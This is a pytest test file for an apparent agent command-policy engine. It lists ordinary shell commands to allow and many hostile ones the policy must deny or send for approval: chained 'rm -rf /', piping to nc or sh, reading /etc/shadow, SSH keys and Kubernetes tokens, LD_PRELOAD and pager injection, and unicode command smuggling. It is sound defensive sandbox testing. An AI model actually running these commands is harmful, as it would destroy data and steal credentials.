"""One table row per attack (and per ordinary command that must keep working).

Every row names the command line and the decision + reason code the inspect-only policy must give;
EXECUTION_ROWS do the same for policy.execution.yaml.
"""

import pytest

from safeagent.policy import decide

ALLOW, DENY, APPROVE = "allow", "deny", "require_approval"


def rows(decision, reason, *commands):
    return [(command, decision, reason) for command in commands]


ORDINARY = rows(
    ALLOW,
    "allowed",
    "ls",
    "ls -la",
    "ls -la src",
    "ls foo -la",
    "ls --color=never -1",
    "ls --col=never",
    "cat --squeeze x",
    "wc --ma x",
    "grep --exclude-fro=x foo .",
    "ls ./src /workspace/src src",
    "ls /workspace",
    "ls 'a b'",
    'ls "dir with spaces"',
    "ls src/../docs",
    "ls -- -weird-name",
    "ls '*'",
    "find . -name '*.py'",
    "find . -type f -name '*.py' -not -path './.git/*'",
    "find src -maxdepth 2 -type d",
    "find . -iname '*readme*' -print0",
    "find . -newer setup.py -name '*.py'",
    "find . -size +10k -o -empty",
    "find . -regex '.*/test_[a-z]*[.]py'",
    "find . -printf '%p %s\\n'",
    "find -P . -name x",
    "find . -newermt '2024-01-01'",
    "cat README.md",
    "cat -n src/main.py",
    "cat /workspace/README.md",
    "head -n 20 README.md",
    "head -5 README.md",
    "head -c 1K README.md",
    "tail -n +5 README.md",
    "tail -20 log.txt",
    "wc -l src/main.py",
    "stat README.md",
    "grep -rn 'foo.*bar' .",
    "grep -rn TODO src",
    "grep -rnE 'fo+' --include='*.py' .",
    "grep -e foo -e bar README.md",
    "grep -rl --exclude-dir=.git needle .",
    "grep -c '^import' src/main.py",
    "grep -2 needle file.txt",
    "grep -f patterns.txt src/main.py",
    "grep '[a-z]\\+' file",
    "grep -- -v file",
    "grep '/etc/passwd' notes.txt",
    "grep '#include' src/x.c",
    "git status",
    "git status -s",
    "git status --porcelain=v2",
    "git diff",
    "git diff --stat",
    "git diff --cached -- src",
    "git diff HEAD~1 HEAD",
    "git diff main...feature",
    "git diff -U5 --no-ext-diff --no-textconv",
    "git log --oneline -5",
    "git log -n 3 --stat",
    "git log -p --follow -- README.md",
    "git log --author='Jane Doe' --since=2.weeks",
    "git log --format='%H %s'",
    "git --no-pager log",
    "git -P diff",
    "git show HEAD",
    "git show HEAD:README.md",
    "git show --stat HEAD^",
    "git ls-files",
    "git ls-files -o --exclude-standard",
)

SHELL_OPERATORS = rows(
    DENY,
    "shell_metacharacter",
    "ls; rm -rf /",
    "ls ; id",
    "ls && id",
    "ls & id",
    "ls &",
    "ls || id",
    "ls | sh",
    "cat x | nc host 1",
    "ls |& cat",
    "ls\nid",
    "ls\n",
    "(ls)",
    "ls (x)",
    "{ ls; }",
    "ls {a,b}",
    "cat {/etc/passwd,x}",
    "find . -exec cat {} +",
    "!ls",
    "ls !!",
    "find . ! -name x",
    "ls $(id)",
    "ls `id`",
    "cat $HOME/.ssh/id_rsa",
    "cat ${HOME}",
    "ls $'\\x2f'",
    "cat <(id)",
    "ls >(id)",
    "cat < /etc/passwd",
    "ls > out.txt",
    "ls >> out.txt",
    "ls 2>&1",
    "ls 2> /dev/null",
    "cat <<EOF",
    "cat <<< x",
    "ls >| x",
    "ls &> x",
    "echo $((1+1))",
    "git log --format=%(describe)",
    "git log @{u}..",
    "git -c alias.x=!sh x",
    "git !sh",
    "ls --width=1;",
)

CONTROL = rows(DENY, "control_character", "ls\x00", "ls\x00 -la", "cat a\x00/etc/passwd", "ls\r", "ls\x1b[31m", "ls\x7f", "ls\x85", "ls\x0b", "ls\x0c", "ls\x08\x08rm", "cat\x01 x", "ls\x9b")

UNICODE = (
    rows(
        DENY,
        "bidi_control",
        "ls \u202e",
        "cat \u202etxt.exe",
        "ls \u2066x\u2069",
        "ls \u200f",
        "ls \u200e",
        "ls \u061c",
        "git log --format=\u202dx",
    )
    + rows(
        DENY,
        "invisible_character",
        "ls\u200b",
        "l\u200bs",
        "ls \u200c",
        "ls \u200d",
        "ls \u2060",
        "\ufeffls",
        "ls\u00a0/etc",
        "cat foo\u00a0/etc/passwd",
        "ls\u3000-la",
        "ls\u2028",
        "ls\u2029",
        "ls \u00ad",
        "ls \u3164",
        "ls \ufe0f",
        "ls \U000e0041",
        "ls \u2800",
        "ls\u2009x",
        "ls \u180e",
    )
    + rows(
        DENY,
        "non_ascii_character",
        "\uff4c\uff53",
        "ls \uff0e\uff0e/etc",
        "cat \u2024\u2024/etc/passwd",
        "cat ..\u2215..\u2215etc\u2215passwd",
        "ls \u2010\u2010all",
        "find . \u2014exec id",
        "find . \u2212delete",
        "\u0441at /etc/passwd",
        "ls \u037e id",
        "ls \uff1b id",
        "ls caf\u00e9",
        "cat \u00b4x",
        "ls \U0001f600",
        "gi\u0074\u0308 status",
    )
    + rows(DENY, "invalid_encoding", "ls \ud800", "cat \udcff\udcfe")
)

SIZE = rows(DENY, "empty_command", "", " ", "\t", "   \t  ", "''", '""') + [
    ("ls " + "a" * 5000, DENY, "command_too_long"),
    ("ls " + "x/" * 2100, DENY, "command_too_long"),
    ("ls " + "\u00e9" * 2100, DENY, "command_too_long"),
    ("ls " + " ".join(["a"] * 128), DENY, "too_many_arguments"),
    ("ls " + " ".join(["a"] * 127), ALLOW, "allowed"),
    ("ls " + "a" * 4093, ALLOW, "allowed"),
]

TOKENS = rows(DENY, "tokenise_error", "ls 'unclosed", 'ls "unclosed', "ls \\", "cat 'a''", 'grep "x')

PROGRAMS = (
    rows(DENY, "program_path", "/bin/ls", "./ls", "/usr/bin/cat README.md", "bin/grep x", "../../bin/sh", "/workspace/ls", "/usr/bin/env ls", "/bin/sh -c ls")
    + rows(DENY, "environment_assignment", "FOO=1 ls", "PAGER=sh git log", "GIT_EXTERNAL_DIFF=x git diff", "LD_PRELOAD=x.so ls", "PATH=. ls", "a= ls")
    + rows(
        DENY,
        "wrapper_denied",
        "env ls",
        "env -i ls",
        "sudo ls",
        "su -c ls",
        "doas ls",
        "xargs rm",
        "timeout 5 ls",
        "nohup ls",
        "nice ls",
        "ionice ls",
        "chroot / ls",
        "setsid ls",
        "stdbuf -o0 ls",
        "time ls",
        "command ls",
        "exec ls",
        "eval ls",
        "busybox sh",
        "strace ls",
        "watch ls",
        "flock x ls",
        "unshare ls",
        "nsenter ls",
        "script -c ls",
        "builtin ls",
    )
    + rows(
        DENY,
        "interpreter_denied",
        "sh -c ls",
        "bash -c ls",
        "bash",
        "dash -c id",
        "zsh",
        "python3 -c 'import os'",
        "python3",
        "python3 script.py",
        "python3 -mpytest",
        "python3 -I -m pytest",
        "python3 -m pip install x",
        "python -m pytest",
        "python3.11 -m pytest",
        "perl -e 1",
        "ruby -e 1",
        "node -e 1",
        "awk 1",
        "vim x",
        "less x",
        "man ls",
        "tar xf x.tar",
        "curl http://x",
        "wget x",
        "ssh host",
        "nc -l 1",
        "dd if=/dev/zero of=x",
        "tee x",
        "cp a b",
        "ln -s /etc x",
        "chmod 777 x",
    )
    + rows(
        DENY,
        "program_not_allowed",
        "pytest",
        "LS",
        "Ls -la",
        "id",
        "touch x",
        "mkdir x",
        "kill 1",
        "-la",
        "--help",
        "cmp a b",
        "shuf x",
        "git-upload-pack .",
        "git-receive-pack .",
        "make test",
    )
)

TRAVERSAL = rows(
    DENY,
    "path_outside_workspace",
    "ls ..",
    "ls ../",
    "ls ../..",
    "cat ../secret",
    "cat a/../../x",
    "cat ./../x",
    "cat src/../../etc/passwd",
    "cat /workspace/../etc/passwd",
    "cat /workspace/a/../../etc/passwd",
    "ls /workspacex",
    "ls /workspace-other",
    "cat /etc/passwd",
    "cat /proc/self/environ",
    "cat /proc/1/root/etc/shadow",
    "ls /",
    "ls //",
    "ls //etc",
    "cat /dev/zero",
    "cat /run/secrets/kubernetes.io/serviceaccount/token",
    "head /var/run/secrets/kubernetes.io/serviceaccount/token",
    "tail /etc/shadow",
    "wc -l /etc/passwd",
    "stat /",
    "ls -la /root",
    "ls x /etc",
    "ls -d -- /etc",
    "cat -- /etc/passwd",
    "cat x -- ../y",
    "grep -r foo /",
    "grep -r foo ..",
    "grep foo /etc/passwd",
    "grep -e x /etc/passwd",
    "grep -e x -- /etc/passwd",
    "grep x -e y /etc/passwd",
    "grep -f /etc/passwd .",
    "grep -f/etc/passwd .",
    "grep --file=/etc/passwd .",
    "grep --file /etc/passwd .",
    "grep -rf /etc/passwd .",
    "grep --exclude-from=/etc/x foo .",
    "grep --regexp=x ../y",
    "find /",
    "find / -name x",
    "find .. -name x",
    "find . /etc -name x",
    "find /etc",
    "find . -newer /etc/passwd",
    "find . -anewer ../x",
    "find . -cnewer /x",
    "find . -samefile /etc/passwd",
    "find . -newermm /etc/x",
    "git diff /etc/passwd /etc/shadow",
    "git diff -- /etc/passwd",
    "git diff ../a ../b",
    "git log -- ../",
    "git status ..",
    "git show /etc/passwd",
    "git ls-files ..",
    "git ls-files -X /etc/x",
    "git diff -O/etc/orderfile",
    "git diff --relative=../x",
    "head -n 5 /etc/passwd",
    "tail -c 10 -- /etc/passwd",
    "ls src/../../..",
    "ls ./../../",
    "cat .//../x",
)

# Unquoted, a shell expands ~ (at the start of a word, after = or :) to a home directory; quoted, the
# program gets a path starting with ~, which the path rules refuse as well.
TILDE = rows(DENY, "shell_metacharacter", "cat ~/.ssh/id_rsa", "ls ~", "ls ~root", "cat ~/x", "grep -f ~/x .", "find ~ -name x", "git log -- ~/x", "ls -- ~", "grep --file=~/x .", "ls x:~/y") + rows(
    DENY, "path_tilde", "cat '~/.ssh/id_rsa'", "ls '~'", 'ls "~root"', "cat \\~/x", "grep -f '~/x' .", "git log -- '~/x'"
)

# No shell runs, so a quoted character is literal: the program gets exactly what a shell would give it.
QUOTED_LITERALS = rows(
    ALLOW,
    "allowed",
    "ls ';'",
    'ls ";"',
    "ls \\;",
    "grep -rn 'a|b' .",
    "grep 'a&b' x",
    "ls '`id`'",
    "grep -rn 'foo$' .",
    "grep -rn '$(id)' .",
    "grep -e '{a,b}' x",
    "grep -e '!!' x",
    "grep -e '*' x",
    "grep -e \\* x",
    "grep -e '#x' x",
    "grep -e \\#x x",
    "grep -e 'a#b' x",
    "grep -e a#b x",
    'grep -e "a|b;c&d<e>f(g)h{i}j*k?l[m]n#o~p" x',
    'grep -e "\\$HOME" x',
    "git log '@{u}..' -- '*'",
) + rows(
    DENY,
    "shell_metacharacter",
    "l?",
    "l*",
    "[l]s",
    "ls *.py",
    "cat src/*.py",
    "ls a?",
    "ls [ab]",
    "grep -e x *",
    "ls #",
    "ls #x",
    "ls \\\nid",
    'grep -e "$HOME" x',
    'grep -e "`id`" x',
    'grep -e "!!" x',
    'grep -e "\\!" x',
)

EMPTY_PATH = rows(DENY, "path_empty", "ls ''", "cat \"\"", "grep --file= x", "find '' -name x")

FIND = (
    rows(DENY, "option_denied", "find . -delete", "find . -name x -delete", "find . -execdir id +", "find . -ok rm", "find . -okdir rm", "find . -fprint out", "find . -fprint0 out", "find . -fprintf out x", "find . -fls out", "find -files0-from list", "find . -follow", "find -L .", "find -H .", "find -D tree .", "find -O3 .", "find . -exec id")
    + rows(
        DENY,
        "option_unknown",
        "find . -nam x",
        "find . -exe x",
        "find . -del",
        "find . --exec x",
        "find . --delete",
        "find . -name x /etc",
        "find . -name x extra",
        "find . -Exec x",
        "find . -EXEC x",
        "find . -print -x",
        "find . -name x -fprin out",
        "find -Q .",
        "find . -newerXY x",
        "find . -newerxt x",
    )
    + rows(DENY, "option_missing_argument", "find . -name", "find . -newer", "find . -type", "find . -maxdepth")
    + rows(DENY, "option_bad_value", "find . -maxdepth x", "find . -regextype perl")
)

GIT = (
    rows(
        DENY,
        "option_denied",
        "git -c core.pager=sh log",
        "git -ccore.fsmonitor=x status",
        "git -Pc x=y status",
        "git --config-env=core.pager=X log",
        "git -C /etc status",
        "git -C .. log",
        "git --git-dir=/tmp/x log",
        "git --git-dir /tmp/x log",
        "git --work-tree=/ status",
        "git --exec-path=/tmp log",
        "git --exec-path",
        "git -p log",
        "git --paginate log",
        "git --bare log",
        "git --namespace=x log",
        "git --help",
        "git -h",
        "git --html-path",
        "git diff --no-index a b",
        "git diff --no-index -- a b",
        "git diff a b --no-index",
        "git diff --ext-diff",
        "git diff --ext",
        "git diff --ext-d",
        "git diff --textconv",
        "git diff --textc",
        "git diff --output=/tmp/x",
        "git diff --output x",
        "git diff --submodule=log",
        "git log --ext-diff -p",
        "git log --textconv -p",
        "git log --output=x",
        "git log --show-signature",
        "git log --show-sig",
        "git show --ext-diff",
        "git show --textconv HEAD",
        "git show --output=x",
        "git show --show-signature",
        "git ls-files --recurse-submodules",
    )
    + rows(
        DENY,
        "option_unknown",
        "git --no-p log",
        "git --work log",
        "git --exec log",
        "git --git log",
        "git --conf x log",
        "git --super log",
        "git --version",
        "git -x log",
        "git diff --frobnicate",
        "git diff -Q",
        "git log --exec=x",
        "git status --porcelain --no-such",
        "git show --notes-ref=x",
        "git log --glob=x",
    )
    + rows(
        DENY,
        "subcommand_not_allowed",
        "git commit -m x",
        "git push",
        "git pull",
        "git fetch",
        "git clone x",
        "git config core.pager sh",
        "git config --global x y",
        "git checkout -- x",
        "git reset --hard",
        "git clean -fdx",
        "git rm x",
        "git am x",
        "git apply x",
        "git submodule update",
        "git daemon",
        "git upload-pack .",
        "git archive HEAD",
        "git bisect run sh",
        "git filter-branch",
        "git difftool",
        "git help log",
        "git instaweb",
        "git stat",
        "git Status",
        "git diff-files",
        "git log2",
        "git st",
        "git co",
        "git x",
    )
    + rows(DENY, "subcommand_missing", "git", "git --no-pager", "git -P")
    + rows(DENY, "option_bad_value", "git status --porcelain=v9", "git diff --color=sh", "git log --decorate=x", "git diff -Uabc", "git log --max-count=x")
    + rows(DENY, "option_ambiguous", "git diff --st", "git diff --co")
)

OPTIONS = (
    rows(
        DENY,
        "option_denied",
        "ls -L",
        "ls --dereference",
        "ls -lL",
        "ls --hyperlink",
        "grep -R foo .",
        "grep -rR foo .",
        "grep --dereference-recursive foo .",
        "grep --deref foo .",
        "tail -f log",
        "tail -F log",
        "tail -qf log",
        "tail --follow=name log",
        "tail --fo log",
        "tail --retry log",
        "tail --pid=1 log",
        "wc --files0-from=list",
        "wc --files0-from list",
        "wc --files0 list",
        "stat -L x",
        "stat --dereference x",
    )
    + rows(
        DENY,
        "option_unknown",
        "ls --frobnicate",
        "ls -y",
        "ls --color-scheme",
        "cat -x",
        "cat --number-lines",
        "head --follow x",
        "grep --devices-x=1 x",
        "grep -O x",
        "ls ---all",
        "ls --=x",
        "wc --xyz",
    )
    + rows(DENY, "option_ambiguous", "ls --co", "ls --s", "grep --no x .", "cat --s x", "tail --s x", "git diff --out=x", "git log --no-", "grep --fil=/etc/passwd .", "git diff --no-in a b", "git diff --outp=x", "ls --deref")
    + rows(DENY, "option_unexpected_argument", "ls --all=x", "cat --number=5 x", "grep --count=x y", "rm --force=x a")
    + rows(DENY, "option_missing_argument", "grep -e", "grep -f", "grep --file", "head -n", "ls --width", "ls -w", "ls --sort")
    + rows(DENY, "option_bad_value", "ls --sort=exec", "ls --color=sh", "ls -w x", "head -n x file", "head -c ../x", "grep -m x foo .", "grep --binary-files=exec x .", "grep -D write x .", "ls --format=x", "grep -A /etc/passwd x")
)

APPROVAL = rows(
    APPROVE,
    "approval_required",
    "rm delete-me.txt",
    "rm -f delete-me.txt",
    "rm -rf build",
    "rm -- -weird",
    "rm ./a /workspace/b",
    "rm 'src/*.pyc'",
    "mv a b",
    "mv -f a b/",
    "mv -t dest a b",
    "rm -r src/../build",
) + rows(DENY, "path_workspace_root", "rm -rf .", "rm -rf ./", "rm -rf /workspace", "rm -rf /workspace/", "rm -r src/..", "mv . x", "mv x .", "mv -t . x") + rows(
    DENY, "path_protected", "rm -rf .git", "rm .git/config", "rm -rf ./.git/hooks", "rm /workspace/.git/HEAD", "mv .git x", "mv x .git/hooks/pre-commit", "mv -t .git x", "rm -r src/../.git"
) + rows(DENY, "path_outside_workspace", "rm /etc/passwd", "rm -rf /", "rm -rf ..", "rm ../x", "mv x /tmp/x", "mv -t /tmp x", "rm -rf /workspace/../") + rows(
    DENY, "option_denied", "rm -i x", "rm -I x", "rm --interactive=always x", "rm --no-preserve-root x", "rm --no-p x", "mv -b a b", "mv --backup a b", "mv -S x a b"
) + rows(DENY, "operand_count", "rm", "rm -rf", "mv")

INSPECT_ROWS = ORDINARY + SHELL_OPERATORS + CONTROL + UNICODE + SIZE + TOKENS + PROGRAMS + TRAVERSAL + TILDE + QUOTED_LITERALS + EMPTY_PATH + FIND + GIT + OPTIONS + APPROVAL

EXECUTION_ROWS = (
    rows(
        ALLOW,
        "allowed",
        "pytest",
        "pytest -q",
        "pytest -x -q tests/unit",
        "pytest tests/test_x.py::test_one",
        "pytest 'tests/test_x.py::test_one[a-b]'",
        "pytest -k 'not slow' -m unit",
        "pytest --tb=short -ra",
        "pytest -vv --maxfail=1",
        "pytest --lf",
        "python3 -m pytest",
        "python3 -m pytest -q tests",
        "make test",
        "make -s test",
        "make -k test",
        "ls -la",
        "git status",
    )
    + rows(APPROVE, "approval_required", "rm delete-me.txt", "mv a b")
    + rows(
        DENY,
        "option_denied",
        "pytest -p evil",
        "pytest -pevil",
        "pytest -p no:cacheprovider",
        "pytest -c /etc/x.ini",
        "pytest --config-file=x",
        "pytest -o addopts=-pevil",
        "pytest --override-ini=x",
        "pytest --basetemp=.",
        "pytest --basetemp /workspace",
        "pytest --base=.",
        "pytest --junitxml=src/main.py",
        "pytest --junit=x",
        "pytest --pastebin=all",
        "pytest --pdb",
        "pytest --trace",
        "pytest --pdbcls=x:y",
        "pytest --pyargs os",
        "pytest -W error::x.Y",
        "pytest --log-file=x",
        "pytest --debug",
        "python3 -m pytest -p evil",
        "make -f evil.mk test",
        "make --file=evil.mk test",
        "make -C /tmp test",
        "make --eval='x:' test",
        "make -E x test",
        "make -j test",
        "make -n test",
        "make -I /tmp test",
        "make -e test",
    )
    + rows(
        DENY,
        "path_outside_workspace",
        "pytest /etc",
        "pytest ../x",
        "pytest ../x.py::t",
        "pytest x.py::t/../../../../etc",
        "pytest --rootdir=/",
        "pytest --rootdir /",
        "pytest --ignore=../x",
        "pytest --confcutdir=/",
        "pytest --deselect ../x.py::t",
        "python3 -m pytest /",
    )
    + rows(DENY, "operand_not_allowed", "make all", "make install", "make clean", "make SHELL=/bin/sh", "make test2", "make -s x")
    + rows(DENY, "operand_count", "make", "make test SHELL=/bin/sh", "make test test", "make test all")
    + rows(DENY, "interpreter_denied", "python3 -c 'import pytest'", "python3 -m pip", "python3 -mpytest", "python3 -m pytest_x", "python3 pytest")
    + rows(DENY, "option_unknown", "pytest --frobnicate", "pytest -Z", "make --frobnicate test", "make -B test")
    + rows(DENY, "program_path", "/usr/bin/pytest", "./pytest", ".venv/bin/pytest")
)


@pytest.mark.parametrize(("command", "decision", "reason"), INSPECT_ROWS, ids=[repr(row[0])[:60] for row in INSPECT_ROWS])
def test_inspect_policy(inspect_policy, command, decision, reason):
    result = decide(inspect_policy, command)
    assert (result.decision, result.reason) == (decision, reason), result.message


@pytest.mark.parametrize(("command", "decision", "reason"), EXECUTION_ROWS, ids=[repr(row[0])[:60] for row in EXECUTION_ROWS])
def test_execution_policy(execution_policy, command, decision, reason):
    result = decide(execution_policy, command)
    assert (result.decision, result.reason) == (decision, reason), result.message


def test_every_inspect_only_row_is_at_least_as_strict_under_the_execution_policy(execution_policy):
    """The execution policy only adds programs: what inspect-only denies stays denied (bar make)."""
    for command, decision, _ in INSPECT_ROWS:
        result = decide(execution_policy, command)
        if decision == DENY and not command.startswith(("make", "pytest")):
            assert result.decision == DENY, command
